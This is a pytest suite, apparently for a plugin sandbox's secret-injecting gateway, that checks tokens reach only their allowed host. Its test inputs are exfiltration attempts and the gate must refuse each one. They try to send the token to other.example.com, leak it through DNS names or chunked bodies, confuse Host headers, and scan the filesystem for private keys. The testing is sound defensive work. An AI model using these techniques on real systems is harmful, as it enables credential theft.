"""Secrets that a plugin uses and never sees: real programs in a real sandbox, a real gate, real TLS on both sides.

Every attack stands beside a harmless twin that must work.
"""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path

import pytest
from tests.real.secret_stage import VALUE, Stage, staged

pytestmark = [pytest.mark.real, pytest.mark.usefixtures("walls")]

TOKEN = 'TOKEN = { from = "env:TOKEN", hosts = ["api.example.com"] }'
PLAIN = 'TOKEN = { from = "env:TOKEN", hosts = ["http://api.example.com"] }'

# What Python programs inside begin with: `ask` sends a request and tells status, headers and body, or what went wrong.
ASK = """
import base64, json, os, sys, urllib.error, urllib.parse, urllib.request
TOKEN = os.environ.get("TOKEN", "")
def ask(url, headers=(), data=None, method=None, direct=False):
    handler = urllib.request.ProxyHandler({} if direct else None)
    request = urllib.request.Request(url, headers=dict(headers), data=data, method=method)
    try:
        with urllib.request.build_opener(handler).open(request, timeout=20) as answer:
            return {"status": answer.status, "echo": answer.headers.get("X-Echo", ""), "body": answer.read().decode()}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "body": error.read().decode("utf-8", "replace")}
    except OSError as error:
        return {"status": 0, "body": str(error)}
    except UnicodeDecodeError:
        return {"status": 200, "body": "no text"}
"""


async def ask(stage: Stage, call: str) -> dict[str, object]:
    """One request from inside."""
    return (await stage.python(ASK + f"print(json.dumps({call}))")).json()


@pytest.mark.parametrize("is_direct", [False, True])
async def test_a_secret_reaches_its_host_inside_tls_and_its_echo_comes_back_masked(
    tmp_path: Path, is_direct: bool
) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(
            ASK
            + 'headers = {"Authorization": "Bearer " + TOKEN, "X-Show": TOKEN}\n'
            + f'answer = ask("https://api.example.com/echo?key=" + TOKEN, headers, direct={is_direct})\n'
            + 'print(json.dumps({"answer": answer, "token": TOKEN}))'
        )
        found = said.json()
    ((scheme, request),) = stage.seen
    assert scheme == "https"
    assert f"bearer {VALUE}".encode().lower() in request.lower()
    assert f"GET /echo?key={VALUE} HTTP/1.1".encode() in request
    assert found["answer"]["status"] == 200
    assert VALUE not in said.out + said.err
    assert found["answer"]["echo"] == found["token"]
    assert json.loads(found["answer"]["body"])["request"].count(found["token"]) == 3
    assert stage.refusals == []


async def test_basic_credentials_and_chunked_answers_work_too(tmp_path: Path) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        call = (
            'ask("https://api.example.com/chunked", '
            '{"Authorization": "Basic " + base64.b64encode(("me:" + TOKEN).encode()).decode()})'
        )
        answer = await ask(stage, call)
    assert b"Basic " + base64.b64encode(f"me:{VALUE}".encode()) in stage.seen[0][1]
    assert base64.b64encode(f"me:{VALUE}".encode()).decode() not in str(answer)
    assert answer["status"] == 200


@pytest.mark.threat("T-SECRET")
async def test_an_answer_that_is_compressed_all_the_same_is_read_and_arrives_without(tmp_path: Path) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        answer = await ask(stage, 'ask("https://api.example.com/compressed", {"X-Show": TOKEN})')
    assert f"x-show: {VALUE}".encode() in stage.seen[0][1]
    assert answer["status"] == 200
    assert "x-show: sekisho-secret-" in json.loads(str(answer["body"]))["request"]
    assert VALUE not in str(answer)
    assert stage.refusals == []


@pytest.mark.threat("T-SECRET")
async def test_an_answer_that_is_compressed_as_nobody_here_reads_it_does_not_reach_the_plugin(
    tmp_path: Path,
) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        answer = await ask(stage, 'ask("https://api.example.com/compressed-br", {"X-Show": TOKEN})')
        twin = await ask(stage, 'ask("https://other.example.com/compressed-br")')
    assert answer["status"] == 403
    assert "compressed its answer" in str(answer["body"])
    ((kind, reason),) = stage.refusals
    assert (kind, "compressed" in reason) == ("secret", True)
    assert twin["status"] == 200, "a host that has no secret may compress what it likes"


BEARER = "-H 'Authorization: Bearer '\"$TOKEN\""
FETCH = "fetch('https://api.example.com/', {headers: {authorization: 'Bearer ' + process.env.TOKEN}})"
# What clients of HTTP/2 offer first; httpx with http2=True and Node's own do the same.
OFFER = (
    "import os, ssl, http.client as h; c = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']); "
    "c.set_alpn_protocols(['h2', 'http/1.1']); s = h.HTTPSConnection('api.example.com', context=c, timeout=20); "
    "s.request('GET', '/', headers={'authorization': 'Bearer ' + os.environ['TOKEN']}); "
    "print(s.sock.selected_alpn_protocol(), s.getresponse().status)"
)
# Node's client speaks HTTP/2 alone unless it is asked what was agreed on: https takes over where it was http/1.1.
NODE_OFFER = (
    "const s = require('tls').connect({host: 'api.example.com', port: 443, servername: 'api.example.com', "
    "ALPNProtocols: ['h2', 'http/1.1']}, () => { console.log(s.alpnProtocol); "
    "require('https').get({host: 'api.example.com', createConnection: () => s, agent: false, "
    "headers: {authorization: 'Bearer ' + process.env.TOKEN}}, (r) => r.resume().on('end', () => s.destroy())) })"
)
PROGRAMS = {
    "curl --http2": f"curl -sS --http2 --noproxy '*' {BEARER} https://api.example.com/",
    "python3 offering h2": f'python3 -Ic "{OFFER}"',
    "node offering h2": f'node -e "{NODE_OFFER}"',
    "curl": f"curl -sS {BEARER} https://api.example.com/",
    "curl without the proxy": f"curl -sS --noproxy '*' {BEARER} https://api.example.com/",
    "node": f'node -e "{FETCH}.then(answer => answer.text()).then(console.log)"',
    "git": 'git -c "http.extraHeader=Authorization: Bearer $TOKEN" ls-remote https://api.example.com/r',
}


@pytest.mark.parametrize("name", PROGRAMS)
async def test_the_programs_that_plugins_are_made_of_trust_the_gate(tmp_path: Path, name: str) -> None:
    program = name.split(maxsplit=1)[0]
    if shutil.which(program, path="/usr/local/bin:/usr/bin:/bin") is None:
        pytest.skip(f"{program} is not installed in the system's folders")
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.run("/bin/sh", "-c", PROGRAMS[name])
    assert stage.seen, said.err
    assert f"bearer {VALUE}".encode().lower() in stage.seen[0][1].lower()
    assert VALUE not in said.out + said.err


H2_ALONE = """
import os, socket, ssl
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
context.set_alpn_protocols(["h2"])
with context.wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com") as tls:
    tls.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
    print(tls.selected_alpn_protocol(), b"403" in tls.recv(1000))
"""


async def test_who_speaks_http2_and_nothing_else_is_refused_and_the_log_says_why(tmp_path: Path) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(H2_ALONE)
    assert said.out == "None True\n"
    assert stage.seen == []
    ((_, reason),) = stage.refusals
    assert "HTTP/2 is not spoken here" in reason


async def test_plain_http_needs_no_opened_tls(tmp_path: Path) -> None:
    async with staged(tmp_path, PLAIN, intercept=False) as stage:
        answer = await ask(stage, 'ask("http://api.example.com/", {"X-Key": TOKEN, "X-Show": TOKEN})')
    assert stage.seen[0][0] == "http"
    assert f"x-key: {VALUE}".encode() in stage.seen[0][1].lower().replace(
        VALUE.lower().encode(), VALUE.encode()
    )
    assert answer["status"] == 200
    assert VALUE not in str(answer)


ATTACKS = {
    "another host": 'ask("https://other.example.com/", {"X-Key": TOKEN})',
    "another host, directly": 'ask("https://other.example.com/", {"X-Key": TOKEN}, direct=True)',
    "another host, in the query": 'ask("https://other.example.com/?k=" + TOKEN)',
    "another host, percent-encoded": 'ask("https://other.example.com/?k=" + TOKEN.replace("s", "%73"))',
    "another host, in capitals": 'ask("https://other.example.com/", {"X-Key": TOKEN.upper()})',
    "another host, in Basic": (
        'ask("https://other.example.com/", {"Authorization": "Basic " + base64.b64encode(TOKEN.encode()).decode()})'
    ),
    "another host, in a body": 'ask("https://other.example.com/", data=TOKEN.encode())',
    "in the clear": 'ask("http://api.example.com/", {"X-Key": TOKEN})',
    "in the clear, directly": 'ask("http://api.example.com/", {"X-Key": TOKEN}, direct=True)',
    "in the path": 'ask("https://api.example.com/" + TOKEN)',
    "in the name of a header": 'ask("https://api.example.com/", {TOKEN: "1"})',
    "in a body of its own host": 'ask("https://api.example.com/", data=b"x" * 100000 + TOKEN.encode())',
    "in a host name": 'ask("https://" + TOKEN + ".listed.example/")',
    "in a question to the resolver": 'ask("https://" + TOKEN + ".listed.example/", direct=True)',
}
TWINS = {
    "another host": 'ask("https://other.example.com/?k=sekisho-secret-doc", {"X-Key": "sekisho-secret-doc"})',
    "a body": 'ask("https://api.example.com/", {"X-Key": TOKEN}, data=b"x" * 300000)',
    "a listed name": 'ask("https://a.listed.example/")',
    "plain http without the secret": 'ask("http://api.example.com/", {"X-Key": "none"})',
}


@pytest.mark.threat("T-SECRET")
@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_placeholder_goes_nowhere_else(tmp_path: Path, attack: str) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        answer = await ask(stage, ATTACKS[attack])
    assert answer["status"] in (403, 0), answer
    sent = b"".join(data for _, data in stage.seen)
    assert VALUE.encode() not in sent
    assert b"sekisho-secret-" not in sent
    assert {kind for kind, _ in stage.refusals} == {"secret"}
    if "in a body" in attack:
        assert "in the content" in str(answer["body"])
    if answer["status"]:
        assert "placeholder" in str(answer["body"])


@pytest.mark.parametrize("twin", TWINS)
async def test_what_only_looks_like_it_passes(tmp_path: Path, twin: str) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        answer = await ask(stage, TWINS[twin])
    assert answer["status"] == 200, answer
    assert stage.refusals == []


RAW = """
import os, socket, ssl
TOKEN = os.environ["TOKEN"]
def raw(pieces, host="api.example.com"):
    sock = socket.create_connection((host, 443), timeout=20)
    with ssl.create_default_context().wrap_socket(sock, server_hostname=host) as inside:
        for piece in pieces:
            inside.sendall(piece)
        answer = b""
        try:
            while data := inside.recv(65536):
                answer += data
        except OSError as error:
            answer += str(error).encode()
        print(answer.decode("latin-1"))
"""


@pytest.mark.threat("T-SECRET")
async def test_a_placeholder_in_pieces_of_a_chunked_body_is_noticed(tmp_path: Path) -> None:
    head = 'b"POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"'
    pieces = '*[b"1\\r\\n%c\\r\\n" % one for one in TOKEN.encode()], b"0\\r\\n\\r\\n"'
    async with staged(tmp_path, TOKEN) as stage:
        await stage.python(RAW + f"raw([{head}, {pieces}])")
        assert stage.seen == []
        assert stage.refusals[0][0] == "secret"
        harmless = pieces.replace("TOKEN.encode()", "TOKEN[:-1].encode()")
        said = await stage.python(RAW + f"raw([{head}, {harmless}])")
    assert "200 OK" in said.out
    assert len(stage.seen) == 1


@pytest.mark.threat("T-SECRET")
async def test_a_placeholder_in_single_bytes_of_a_head_is_still_put_in(tmp_path: Path) -> None:
    head = '("GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\nX-Key: " + TOKEN + "\\r\\n\\r\\n")'
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(RAW + f"raw([bytes([one]) for one in {head}.encode()])")
    assert "200 OK" in said.out
    assert VALUE.encode() in stage.seen[0][1]
    assert VALUE not in said.out


@pytest.mark.threat("T-SECRET")
@pytest.mark.parametrize(
    "head",
    [
        "GET / HTTP/1.1\\r\\nHost: other.example.com\\r\\nX-Key: ",
        "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: other.example.com\\r\\nX-Key: ",
        "GET https://other.example.com/ HTTP/1.1\\r\\nHost: other.example.com\\r\\nX-Key: ",
        "CONNECT other.example.com:443 HTTP/1.1\\r\\nHost: other.example.com\\r\\nX-Key: ",
    ],
)
async def test_inside_opened_tls_the_host_is_the_one_that_was_asked_for(tmp_path: Path, head: str) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(RAW + f'raw([("{head}" + TOKEN + "\\r\\n\\r\\n").encode()])')
    assert "403 Forbidden" in said.out
    assert stage.seen == []


@pytest.mark.threat("T-SECRET")
async def test_a_host_without_a_valid_certificate_gets_nothing(tmp_path: Path) -> None:
    secret = 'TOKEN = { from = "env:TOKEN", hosts = ["expired.example.com"] }'
    async with staged(tmp_path, secret) as stage:
        answer = await ask(stage, 'ask("https://expired.example.com/", {"X-Key": TOKEN})')
        assert answer["status"] == 403
        assert "certificate of the host is not valid: certificate has expired" in str(answer["body"])
        assert stage.seen == []
        assert (await ask(stage, 'ask("https://api.example.com/")'))["status"] == 200


@pytest.mark.threat("T-SECRET")
async def test_the_sandbox_holds_placeholders_and_one_certificate_and_no_key(tmp_path: Path) -> None:
    secrets = TOKEN + '\nWORD = { from = "env:WORD", environment = true }'
    code = """
import json, os, ssl
found = {"environ": dict(os.environ), "pem": open(os.environ["SSL_CERT_FILE"]).read(), "keys": [], "writable": []}
for folder, _, names in os.walk("/"):
    for name in names:
        path = os.path.join(folder, name)
        if folder.startswith(("/proc", "/sys", "/usr", "/lib")) and "environ" not in name:
            continue
        try:
            data = open(path, "rb").read(1 << 20) if os.path.isfile(path) else b""
        except OSError:
            continue
        if b"PRIVATE KEY" in data or b"VALUE" in data:
            found["keys"].append(path)
try:
    open(os.environ["SSL_CERT_FILE"], "a")
    found["writable"].append("certificate")
except OSError:
    pass
found["trusted"] = len(ssl.create_default_context().get_ca_certs())
print(json.dumps(found))
""".replace("VALUE", VALUE)
    async with staged(tmp_path, secrets) as stage:
        stage.environment["WORD"] = "password"
        first, second = (await stage.python(code)).json(), (await stage.python(code)).json()
    assert first["environ"]["TOKEN"].startswith("sekisho-secret-")
    assert first["environ"]["TOKEN"] != second["environ"]["TOKEN"]
    assert first["environ"]["WORD"] == "password"
    assert first["pem"].count("BEGIN CERTIFICATE") == 1
    assert first["pem"] != second["pem"]
    assert (first["keys"], first["writable"], first["trusted"]) == ([], [], 1)


async def test_without_a_lease_nothing_is_opened(tmp_path: Path) -> None:
    """A sandbox whose lease has ended reaches nothing inside TLS: the gate has no authority for it any more."""
    async with staged(tmp_path, TOKEN) as stage:
        code = ASK + 'print(json.dumps(ask("https://api.example.com/")))'
        assert (await stage.python(code)).json()["status"] == 200
        answer = (await stage.python(code, has_lease=False)).json()
    assert answer["status"] == 0
    assert stage.refusals == [("tunnel", "TLS is to be opened, and no lease allows it")]


KEPT = """
import http.client, json, os, ssl
TOKEN = os.environ["TOKEN"]
connection = http.client.HTTPSConnection("api.example.com", timeout=20)
found = []
for host in ("api.example.com", "api.example.com", "other.example.com"):
    connection.request("GET", "/", headers={"Host": host, "X-Key": TOKEN})
    with connection.getresponse() as answer:
        found.append([answer.status, answer.read().decode()])
print(json.dumps({"answers": found}))
"""


@pytest.mark.threat("T-SECRET")
async def test_each_request_of_a_kept_connection_is_judged(tmp_path: Path) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(KEPT)
    first, second, third = said.json()["answers"]
    assert [first[0], second[0], third[0]] == [200, 200, 403]
    assert [VALUE.encode() in data for _, data in stage.seen] == [True, True]
    assert VALUE not in said.out
    assert [one.allowed for one in stage.events] == [True, True, False]


SPEAK = """
import os, socket, ssl
sock = socket.create_connection(("api.example.com", 443), timeout=20)
with ssl.create_default_context().wrap_socket(sock, server_hostname="api.example.com") as inside:
    inside.sendall(("GET /chat HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: Upgrade\\r\\n"
        "Upgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
        "Authorization: Bearer " + os.environ["TOKEN"] + "\\r\\n\\r\\n").encode())
    answer = b""
    while b"\\r\\n\\r\\n" not in answer:
        answer += inside.recv(1000)
    inside.sendall(b"one")
    print(answer.decode() + inside.recv(1000).decode())
"""


async def test_a_websocket_inside_opened_tls_is_carried_with_its_secret(tmp_path: Path) -> None:
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(SPEAK)
    assert "101 Switching" in said.out, said.err
    assert said.out.rstrip().endswith("heard one")
    assert f"Bearer {VALUE}".encode() in stage.seen[0][1]
    assert VALUE not in said.out


@pytest.mark.threat("T-SECRET")
async def test_no_sandbox_reaches_where_leases_are_issued_or_sockets_handed_over(tmp_path: Path) -> None:
    paths = [str(tmp_path / name) for name in ("lease.sock", "gate.sock")]
    code = f"""
import json, socket
found = {{}}
for path in {paths!r}:
    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.connect(path)
            found[path] = "reached"
        except OSError as error:
            found.setdefault(path, type(error).__name__)
print(json.dumps(found))
"""
    async with staged(tmp_path, TOKEN) as stage:
        found = (await stage.python(code)).json()
        assert all(Path(path).is_socket() for path in paths)  # outside they are there
    assert found == dict.fromkeys(paths, "FileNotFoundError")


async def test_a_plugin_that_does_not_trust_the_gate_is_told_of_in_the_log(tmp_path: Path) -> None:
    distrustful = RAW.replace("ssl.create_default_context()", "ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)")
    async with staged(tmp_path, TOKEN) as stage:
        said = await stage.python(distrustful + 'raw([b"x"])')
    assert "CERTIFICATE_VERIFY_FAILED" in said.err
    assert stage.seen == []
    ((kind, reason),) = stage.refusals
    assert kind == "tls"
    assert reason.startswith("the plugin and the gate found no TLS in common")
